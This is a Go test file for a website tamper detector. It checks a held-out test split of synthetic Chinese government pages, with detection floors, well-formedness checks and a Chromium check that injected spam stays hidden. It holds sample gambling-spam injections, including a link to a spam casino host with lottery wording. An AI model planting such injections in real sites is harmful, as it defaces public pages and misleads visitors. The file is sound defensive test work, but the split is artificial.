		if found[k] < floor {
			t.Errorf("sealed4: %s found %d/%d, below the floor %d", k, found[k], labelled[k], floor)
		}
	}
	if falseAlarms > sealed4MaxFalseAlarms {
		t.Errorf("sealed4: %d false alarms, more than the %d allowed", falseAlarms, sealed4MaxFalseAlarms)
	}
}

// sealed4Floors are the sealed4 split's first-run counts (2026-12-07, the
// detector of main after the tamper5 round, run once by the lead after the
// split was committed): 118/150 hidden_link (78.7 %), 129/134 illicit_content (96.3 %), every other kind 100 %, 0 false alarms. The test now always runs; raise the
// floors only when the detector improves. Raised after round 5 (tamper7:
// speck links, script-built data links, script-injected stylesheets,
// picture covers) to 150/150 hidden_link and 134/134 illicit_content.
var sealed4Floors = map[string]int{
	KindHiddenLink:        150,
	KindIllicitContent:    134,
	KindCloaking:          12,
	KindMaliciousRedirect: 24,
	KindHiddenIframe:      8,
	KindNewExternalScript: 8,
}

const sealed4MaxFalseAlarms = 0

// sealed4HasSpam reports whether one of the split's hosts or words is in
// the page or in one of its decodings (sealedDecodings, and JavaScript's
// %uXXXX escapes).
func sealed4HasSpam(page string) bool {
	words := append(append([]string{}, genSealed4.spam...), genSealed4.neutral...)
	for _, d := range append(sealedDecodings(page), sealed4Unescape(page)) {
		d = strings.ToLower(d)
		for _, h := range genSealed4.hosts {
			if strings.Contains(d, strings.ToLower(h)) {
				return true
			}
		}
		for _, w := range words {
			if strings.Contains(d, strings.ToLower(w)) {
				return true
			}
		}
	}
	return false
}

// sealed4Unescape is JavaScript's unescape() (%XX and %uXXXX).
func sealed4Unescape(s string) string {
	var u []uint16
	for i := 0; i < len(s); {
		if s[i] == '%' && i+6 <= len(s) && s[i+1] == 'u' {
			var n uint16
			if _, err := fmt.Sscanf(s[i+2:i+6], "%04X", &n); err == nil {
				u = append(u, n)
				i += 6
				continue
			}
		}
		if s[i] == '%' && i+3 <= len(s) {
			var n uint8
			if _, err := fmt.Sscanf(s[i+1:i+3], "%02X", &n); err == nil {
				u = append(u, uint16(n))
				i += 3
				continue
			}
		}
		r, size := utf8.DecodeRuneInString(s[i:])
		u = append(u, utf16Units(string(r))...)
		i += size
	}
	return string(utf16Decode(u))
}

// sealed4Others are the splits on main whose hosts, wording, sites and
// change names this split must not reuse.
func sealed4Others() []genSplit {
	return []genSplit{genTuning, genHeldOut, genFresh, genBlind, genFinal, genSealed, genTuning2, genSealed2}
}

// TestSealed4SplitWellFormed checks the split without running the
// detector: nothing reused from the other splits, every case labelled, the
// label counts, every page parses and names its site, spam in every
// tampered page (or its spider copy), none in a cloaking case's browser
// copy, no spam host in any benign page and no spam wording in any benign
// page but the fraud-warning news, which quotes it in visible text.
func TestSealed4SplitWellFormed(t *testing.T) {
	checkSplitDistinct(t, genSealed4, sealed4Others(), false)
	checkBenignNew(t, names(sealed4Benign, func(b sealed4Change) string { return b.name }), names(sealed2Benign, sealed2ChangeName))

	cases := sealed4Cases()
	pages := map[string]string{}
	for _, c := range cases {
		p := string(c.html) + "\x00" + string(c.spider)
		if o, ok := pages[p]; ok {
			t.Errorf("%s %s: the same page as %s", c.site, c.name, o)
		}
		pages[p] = c.site + " " + c.name
	}
	labelled := map[string]int{}
	perTech := map[string]int{}
	benign := 0
	seen := map[string]int{}
	for _, c := range cases {
		seen[c.site+" "+c.name]++
		key := fmt.Sprintf("%s %s #%d", c.site, c.name, seen[c.site+" "+c.name])
		checkSplitPage(t, key, c.html, c.baselineFor.name)
		checkSplitPage(t, key, c.spider, c.baselineFor.name)
		if len(c.kinds) == 0 {
			benign++
			checkBenignFree(t, key, c.html, genSealed4.hosts)
			if c.name != "s4-fraud-warning-news" && sealed4HasSpam(string(c.html)) {
				t.Errorf("%s: benign page holds the split's spam wording", key)
			}
			continue
		}
		perTech[c.name]++
		for _, k := range c.kinds {
			labelled[k]++
		}
		if !sealed4HasSpam(string(c.html) + string(c.spider)) {
			t.Errorf("%s: tampered page holds none of the split's spam hosts or words", key)
		}
		if c.spider != nil && sealed4HasSpam(string(c.html)) {
			t.Errorf("%s: cloaking case whose browser copy holds the spam", key)
		}
	}
	checkSplitLabels(t, labelled, sealed4Labels, true)
	if benign != sealed4BenignPages || benign < 70 {
		t.Errorf("%d benign pages, want %d (at least 70)", benign, sealed4BenignPages)
	}
	for _, tq := range sealed4Techniques {
		if perTech[tq.name] != tq.cases {
			t.Errorf("technique %s: %d cases, want %d", tq.name, perTech[tq.name], tq.cases)
		}
	}
	t.Logf("sealed4 split: %d cases, %d benign, labels %v, per technique %v", len(cases), benign, labelled, perTech)
}

// sealed4ExtPage is what the browser check serves in place of a spam
// host's page (for the hidden frames): visible spam.
const sealed4ExtPage = `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="background:#fff"><p style="font-size:20px"><a href="http://www.xpj-8866.com/">新葡京线上娱乐城</a> 百家乐稳赢技巧 双色球内部预测</p></body></html>`

// TestSealed4SplitHiddenInChromium checks, without the detector, that
// every tampered page of the split hides its payload from a visitor, as
// TestSealed2SplitHiddenInChromium does: screenshot, rotate the spam texts
// in place (also in same-origin frames), screenshot again; the two must
// not differ, and a control page with the payload visible must differ.
// Techniques whose payload is not hidden markup (redirects, remote
// scripts, the visible hyphen, cloaking whose browser copy is clean) are
// left out. It runs only with FENGHUO_TAMPER_BROWSER=1 and a Chromium.
func TestSealed4SplitHiddenInChromium(t *testing.T) {
	if os.Getenv("FENGHUO_TAMPER_BROWSER") != "1" {
		t.Skip("set FENGHUO_TAMPER_BROWSER=1 (and FENGHUO_TEST_CHROMIUM) to check in Chromium that the sealed4 split hides its payloads")
	}
	path := sealedChromium()
	if path == "" {
		t.Skip("no Chromium: set FENGHUO_TEST_CHROMIUM")
	}
	skip := map[string]bool{}
	var left []string
	for _, tq := range sealed4Techniques {
		if tq.skipUI {
			skip[tq.name] = true
			left = append(left, tq.name)
		}
	}
	var pages []sealedPage
	for _, c := range sealed4Cases() {
		if len(c.kinds) == 0 || skip[c.name] {
			continue
		}
		pages = append(pages, sealedPage{fmt.Sprintf("%s %s #%d", c.site, c.name, len(pages)), c.html})
	}
	s := genSealed4.sites[0]
	pages = append(pages, sealedPage{"control", []byte(s.tmpl(s, 99, inject{foot: `<div><a href="http://www.xpj-8866.com/">新葡京线上娱乐城</a> 百家乐稳赢技巧</div>`}))})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if strings.HasPrefix(r.URL.Path, "/ext/") {
			w.Write([]byte(sealed4ExtPage))
			return
		}
		var i int
		if _, err := fmt.Sscanf(r.URL.Path, "/p/%d", &i); err != nil || i < 0 || i >= len(pages) {
			http.NotFound(w, r)
			return
		}
		body := string(pages[i].html)
		for _, h := range genSealed4.hosts {
			for _, scheme := range []string{"http://", "https://", "//"} {
				body = strings.ReplaceAll(body, `src="`+scheme+h+`/`, `src="http://`+r.Host+`/ext/`)
			}
		}
		w.Write([]byte(body))
	}))
	defer srv.Close()
	shown, checked, untouched := sealedPayloadsShown(t, path, srv.URL, pages, genSealed4, 15*time.Minute)
	t.Logf("sealed4 split in Chromium: %d of %d tampered pages show their payload (left out: %v); %d had no spam text in the rendered document to rotate",
		shown, checked, left, untouched)
}

// sealed4Page is the frame the six templates share: head (title, styles,
// in.head), a header with the site's name and the date, navigation, in.top,
// the template's own body, friendly links and a footer holding in.foot, and
// in.end before </body>.
func sealed4Page(s genSite, day int, in inject, css, nav, body, links, footer string) string {
	return fmt.Sprintf(`<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta name="SiteName" content="%s">
<meta name="SiteDomain" content="%s">
<title>%s</title>
<style>body{margin:0;font:14px/1.6 "Microsoft YaHei",SimSun,sans-serif;color:#333;background:#fff}a{color:#1a4f8b;text-decoration:none}ul{list-style:none;margin:0;padding:0}%s</style>
%s</head>
<body>
<div class="top"><span>%s</span><span class="date">今天是：2026年11月%d日</span></div>
<div class="nav">%s</div>
%s<div id="main" class="main">
%s
</div>
<div class="links"><span>友情链接：</span>%s</div>
<div class="footer">
%s
%s
</div>
%s</body>
</html>
`, s.name, s.host, s.name, css, in.head, s.name, day%28+1, nav, in.top, body, links, footer, in.foot, in.end)
}

func sealed4Nav(items ...string) string {
	var b strings.Builder
	b.WriteString("<ul>")
	for i, it := range items {
		fmt.Fprintf(&b, `<li><a href="/%c%d/">%s</a></li>`, 'a'+rune(i), i+1, it)
	}
	b.WriteString("</ul>")
	return b.String()
}

func sealed4Footer(s genSite, unit, addr, icp, code string) string {
	return fmt.Sprintf(`<p>主办：%s　承办：%s办公室　地址：%s</p>
<p><a href="https://beian.miit.gov.cn/" target="_blank">%s</a>　政府网站标识码：%s　<a href="/wzdt.html">网站地图</a>　<a href="/lxwm.html">联系我们</a></p>`, unit, s.name, addr, icp, code)
}

// sealed4TmplTraffic: a county traffic police brigade's service page —
// queue numbers at the vehicle office, today's road closures, violation
// handling points.
func sealed4TmplTraffic(s genSite, day int, in inject) string {
	r := dayRand(s, day)
	var roads strings.Builder
	for i, rd := range []string{"G319国道临河段", "S227省道白沙桥", "临河大道与建设路口", "城北环线"} {
		if (day+i)%3 != 0 {
			fmt.Fprintf(&roads, `<tr><td>%s</td><td>%s</td><td>%d:%02d-%d:00</td></tr>`, rd, []string{"道路施工 半幅通行", "桥梁检测 限速30", "信号灯检修", "交通管制"}[(day+i)%4], 7+r.Intn(3), r.Intn(60), 17+r.Intn(4))
		}
	}
	body := fmt.Sprintf(`<div class="col-l"><h2>车管业务实时排队</h2><table class="queue"><tr><th>窗口</th><th>业务</th><th>当前叫号</th><th>等候人数</th></tr>
<tr><td>1号</td><td>机动车登记</td><td>A%03d</td><td>%d</td></tr><tr><td>2号</td><td>驾驶证换证</td><td>B%03d</td><td>%d</td></tr><tr><td>3号</td><td>违法处理</td><td>C%03d</td><td>%d</td></tr></table>
<h2>今日路况通告</h2><table class="road"><tr><th>路段</th><th>情况</th><th>时间</th></tr>%s</table></div>
<div class="col-r"><h2>警务公开</h2><ul>%s</ul><h2>便民服务</h2><ul><li><a href="/bm/wfcx.html">交通违法查询</a></li><li><a href="/bm/kszx.html">驾驶人考试预约</a></li><li><a href="/bm/sgcl.html">事故快处快赔</a></li></ul></div>`,
		r.Intn(200), r.Intn(30), r.Intn(150), r.Intn(25), r.Intn(90), r.Intn(12), roads.String(),
		genNews(r, s, day, 5, `<li><a href="%s">%s</a><span>11-%02d</span></li>`))
	return sealed4Page(s, day, in, `.top{background:#0b3d91;color:#fff;padding:8px}.nav li{display:inline-block;padding:6px 14px}.col-l{float:left;width:64%}.col-r{float:right;width:34%}.links,.footer{clear:both}.footer{background:#0b3d91;color:#dfe7f5;padding:10px;text-align:center}.footer a{color:#dfe7f5}`,
		sealed4Nav("首页", "警务公开", "车驾管业务", "违法处理", "事故处理", "交通安全宣传", "互动交流"), body,
		`<a href="https://gab.122.gov.cn/">交通安全综合服务管理平台</a> <a href="http://www.mps.gov.cn/">公安部</a> <a href="http://gat.hunan.gov.cn/">湖南省公安厅</a>`,
		sealed4Footer(s, "临河县公安局", "临河县建设路88号", "湘ICP备05012345号-1", "4307260012"))
}

// sealed4TmplFund: a city housing provident fund centre — rates, the
// day's processed loans, branch hours.
func sealed4TmplFund(s genSite, day int, in inject) string {
	r := dayRand(s, day)
	body := fmt.Sprintf(`<section class="rates"><h2>现行住房公积金存贷款利率</h2><dl><dt>五年以下（含五年）贷款</dt><dd>2.60%%</dd><dt>五年以上贷款</dt><dd>3.10%%</dd><dt>当年缴存存款</dt><dd>1.50%%</dd></dl></section>
<section class="today"><h2>业务数据（截至11月%d日）</h2><ul><li>今日受理提取 <b>%d</b> 笔</li><li>今日发放贷款 <b>%d</b> 笔 <b>%d.%d</b> 万元</li><li>本年归集额 <b>%d.%d</b> 亿元</li></ul></section>
<section class="news"><h2>通知公告</h2><ul>%s</ul></section>
<section class="branches"><h2>服务网点</h2><table><tr><th>网点</th><th>地址</th><th>今日状态</th></tr><tr><td>市本级服务大厅</td><td>渠州大道168号</td><td>%s</td></tr><tr><td>东城管理部</td><td>东城区人民路21号</td><td>%s</td></tr></table></section>`,
		day%28+1, 80+r.Intn(120), 10+r.Intn(40), 300+r.Intn(900), r.Intn(10), 12+r.Intn(5), r.Intn(10),
		genNews(r, s, day, 6, `<li><a href="%s">%s</a> <em>2026-11-%02d</em></li>`),
		[]string{"正常办理", "正常办理", "系统升级，暂停贷款业务"}[day%3], []string{"正常办理", "下午14:30后办理"}[day%2])
	return sealed4Page(s, day, in, `.top{background:#b3261e;color:#fff;padding:10px 20px}.nav ul{display:flex;gap:18px;background:#f3f3f3;padding:8px 20px}section{margin:10px 20px;border-top:2px solid #b3261e}.footer{border-top:1px solid #ccc;padding:12px;color:#666;text-align:center}`,
		sealed4Nav("首页", "机构概况", "政策法规", "缴存业务", "提取业务", "贷款业务", "网上办事", "信息公开"), body,
		`<a href="http://www.mohurd.gov.cn/">住房和城乡建设部</a> <a href="https://www.gov.cn/">中国政府网</a> <a href="http://zjt.hunan.gov.cn/">湖南省住房和城乡建设厅</a>`,
		sealed4Footer(s, "渠州市住房公积金管理中心", "渠州市渠州大道168号", "湘ICP备11004567号", "4307000045"))
}

// sealed4TmplOutpatient: a county hospital's outpatient roster — doctors
// per department with remaining numbers, which change every day.
func sealed4TmplOutpatient(s genSite, day int, in inject) string {
	r := dayRand(s, day)
	docs := []string{"李建华", "王淑芬", "周国平", "陈丽", "刘振宇", "黄晓燕", "赵明", "孙卫东"}
	var rows strings.Builder
	for i, dep := range []string{"心血管内科", "消化内科", "骨科", "妇产科", "儿科", "眼科"} {
		fmt.Fprintf(&rows, `<tr><td>%s</td><td>%s</td><td>%s</td><td>%s</td><td>%d</td></tr>`, dep, docs[(day+i)%len(docs)],
			[]string{"主任医师", "副主任医师", "主治医师"}[(day+i)%3], []string{"上午", "下午", "全天"}[r.Intn(3)], r.Intn(25))
	}
	body := fmt.Sprintf(`<table width="100%%" class="layout"><tr><td class="side" valign="top"><h3>就医指南</h3><ul><li><a href="/jyzn/mzlc.html">门诊流程</a></li><li><a href="/jyzn/yygh.html">预约挂号</a></li><li><a href="/jyzn/ybzc.html">医保政策</a></li></ul></td>
<td valign="top"><h2>11月%d日门诊排班</h2><table class="roster" border="1" cellspacing="0"><tr><th>科室</th><th>医生</th><th>职称</th><th>出诊</th><th>剩余号源</th></tr>%s</table>
<h2>医院动态</h2><ul>%s</ul></td></tr></table>`, day%28+1, rows.String(), genNews(r, s, day, 4, `<li><a href="%s">%s</a> (%02d日)</li>`))
	return sealed4Page(s, day, in, `.top{background:#00796b;color:#fff;padding:10px}.nav li{float:left;padding:6px 12px}.nav{overflow:hidden;background:#e0f2f1}.side{width:180px;background:#f5f5f5}.roster td,.roster th{padding:4px 10px}.footer{background:#004d40;color:#cfe;padding:10px;text-align:center}.footer a{color:#cfe}`,
		sealed4Nav("医院首页", "医院概况", "科室导航", "专家介绍", "就医指南", "健康科普", "院务公开"), body,
		`<a href="http://www.nhc.gov.cn/">国家卫生健康委员会</a> <a href="http://wjw.hunan.gov.cn/">湖南省卫生健康委员会</a> <a href="http://www.smx.gov.cn/">石门县人民政府</a>`,
		sealed4Footer(s, "石门县卫生健康局", "石门县楚江街道宝峰路20号", "湘ICP备09011234号-2", "—"))
}

// sealed4TmplWeather: a county meteorological bureau's forecast page — a
// week of forecasts, warnings in force, observation readings.
func sealed4TmplWeather(s genSite, day int, in inject) string {
	r := dayRand(s, day)
	wx := []string{"晴", "多云", "阴", "小雨", "中雨", "阴转多云", "多云转晴"}
	var fc strings.Builder
	for i := 0; i < 7; i++ {
		lo := 2 + r.Intn(8)
		fmt.Fprintf(&fc, `<li><span class="d">11月%d日</span><span class="w">%s</span><span class="t">%d~%d℃</span><span class="f">%s风%d级</span></li>`,
			(day+i)%28+1, wx[(day*3+i)%len(wx)], lo, lo+4+r.Intn(8), []string{"北", "东北", "西北", "东"}[r.Intn(4)], 1+r.Intn(3))
	}
	warn := []string{`<p class="ok">当前无预警信号生效。</p>`, `<p class="warn">柏岭县气象台11月发布大雾黄色预警信号，请注意交通安全。</p>`, `<p class="ok">当前无预警信号生效。</p>`}[day%3]
	body := fmt.Sprintf(`<div class="grid"><div class="fc"><h2>柏岭县未来七天天气预报</h2><ul class="days">%s</ul>%s</div>
<div class="obs"><h2>实况监测（%02d:00）</h2><p>气温 %d.%d℃　相对湿度 %d%%　能见度 %d km　降水 %d.%d mm</p></div>
<div class="news"><h2>气象服务</h2><ul>%s</ul></div></div>`, fc.String(), warn, 6+r.Intn(12), 5+r.Intn(10), r.Intn(10), 50+r.Intn(45), 2+r.Intn(18), r.Intn(12), r.Intn(10),
		genNews(r, s, day, 4, `<li><a href="%s">%s</a> %02d日</li>`))
	return sealed4Page(s, day, in, `.top{background:linear-gradient(#1e88e5,#1565c0);color:#fff;padding:12px}.nav ul{display:flex;gap:12px;padding:6px 12px;border-bottom:1px solid #90caf9}.grid{display:grid;grid-template-columns:2fr 1fr;gap:16px;padding:12px}.days li{display:flex;gap:10px}.warn{color:#c77700}.footer{background:#eceff1;padding:12px;text-align:center;font-size:12px}`,
		sealed4Nav("首页", "天气预报", "预警信息", "气象服务", "防雷减灾", "人工影响天气", "政务公开"), body,
		`<a href="http://www.cma.gov.cn/">中国气象局</a> <a href="http://hn.cma.gov.cn/">湖南省气象局</a> <a href="http://www.weather.com.cn/">中国天气网</a>`,
		sealed4Footer(s, "柏岭县气象局", "柏岭县城关镇气象路1号", "湘ICP备14006789号", "4308210003"))
}

// sealed4TmplMuseum: a city museum's exhibitions — current shows, today's
// reservation slots, opening notice.
func sealed4TmplMuseum(s genSite, day int, in inject) string {
	r := dayRand(s, day)
	shows := []string{"洞庭遗珍——沅江出土青铜器特展", "湖湘窑火：长沙窑瓷器精品展", "沅水行舟：近代航运文物展", "纸上春秋：馆藏明清书画展"}
	var cards strings.Builder
	for i := 0; i < 3; i++ {
		sh := shows[(day+i)%len(shows)]
		fmt.Fprintf(&cards, `<article class="card"><img src="/upload/zl/%d.jpg" alt="%s"><h3>%s</h3><p>展期：2026年%d月%d日—2027年%d月%d日　地点：%d号展厅</p></article>`, 100+(day+i)%7, sh, sh, 9+i, 1+r.Intn(27), 1+i, 1+r.Intn(27), 1+i)
	}
	body := fmt.Sprintf(`<div class="banner"><h2>今日开放</h2><p>开放时间 9:00—17:00（16:00停止入馆），周一闭馆。今日预约余量：上午 <b>%d</b> 人，下午 <b>%d</b> 人。</p></div>
<div class="shows"><h2>正在展出</h2>%s</div><div class="news"><h2>新闻动态</h2><ul>%s</ul></div>`, r.Intn(800), r.Intn(800), cards.String(),
		genNews(r, s, day, 4, `<li><a href="%s">%s</a><time>11-%02d</time></li>`))
	return sealed4Page(s, day, in, `.top{background:#3e2723;color:#f5e6c8;padding:14px 24px;font-family:serif}.nav li{display:inline-block;margin:0 10px}.card{display:inline-block;width:30%;vertical-align:top;margin:1%}.card img{width:100%;height:120px;background:#ddd}.footer{background:#3e2723;color:#d7ccc8;padding:14px;text-align:center}.footer a{color:#d7ccc8}`,
		sealed4Nav("首页", "本馆概况", "展览", "典藏", "社会教育", "参观服务", "文创"), body,
		`<a href="http://www.ncha.gov.cn/">国家文物局</a> <a href="http://wlt.hunan.gov.cn/">湖南省文化和旅游厅</a> <a href="https://www.hnmuseum.com/">湖南博物院</a>`,
		sealed4Footer(s, "沅江市文化旅游广电体育局", "沅江市琼湖路36号", "湘ICP备18003456号-1", "—"))
}

// sealed4TmplStats: a county statistics bureau's data releases — the
// month's indicators and a release calendar.
func sealed4TmplStats(s genSite, day int, in inject) string {
	r := dayRand(s, day)
	var rows strings.Builder
	for _, ind := range []string{"规模以上工业增加值增速", "固定资产投资增速", "社会消费品零售总额", "城镇居民人均可支配收入", "居民消费价格指数"} {
		fmt.Fprintf(&rows, `<tr><td>%s</td><td>%d.%d</td><td>%s%d.%d</td></tr>`, ind, r.Intn(120), r.Intn(10), []string{"", "-"}[r.Intn(2)], r.Intn(12), r.Intn(10))
	}
	body := fmt.Sprintf(`<div class="wrap"><aside><h3>数据发布</h3><ul><li><a href="/sjfb/yb.html">月度数据</a></li><li><a href="/sjfb/jb.html">季度数据</a></li><li><a href="/sjfb/gb.html">统计公报</a></li><li><a href="/sjfb/nj.html">统计年鉴</a></li></ul></aside>
<main><h2>清溪县主要经济指标（1—%d月）</h2><table class="data"><tr><th>指标</th><th>本期</th><th>同比增长（%%）</th></tr>%s</table>
<h2>发布日程</h2><p>下一次发布：2026年12月%d日 10:00　%s</p><h2>统计动态</h2><ul>%s</ul></main></div>`, 10, rows.String(), 10+r.Intn(10),
		[]string{"第四季度居民收支数据", "11月份主要经济指标", "农业生产情况"}[day%3], genNews(r, s, day, 5, `<li><a href="%s">%s</a> [11-%02d]</li>`))
	return sealed4Page(s, day, in, `.top{background:#1b5e20;color:#fff;padding:10px}.nav ul{background:#2e7d32;padding:6px}.nav li{display:inline;margin:0 12px}.nav a{color:#fff}.wrap{display:flex}aside{width:200px;background:#f1f8e9}main{flex:1;padding:0 16px}.data td,.data th{border:1px solid #c5e1a5;padding:4px 8px}.footer{background:#f5f5f5;padding:10px;text-align:center}`,
		sealed4Nav("首页", "机构职能", "统计数据", "统计公报", "统计法治", "普查专栏", "政务公开"), body,
		`<a href="http://www.stats.gov.cn/">国家统计局</a> <a href="http://tjj.hunan.gov.cn/">湖南省统计局</a> <a href="http://www.qingxixian.gov.cn/">清溪县人民政府</a>`,
		sealed4Footer(s, "清溪县统计局", "清溪县政务中心4楼", "湘ICP备16002233号", "4309230021"))
}
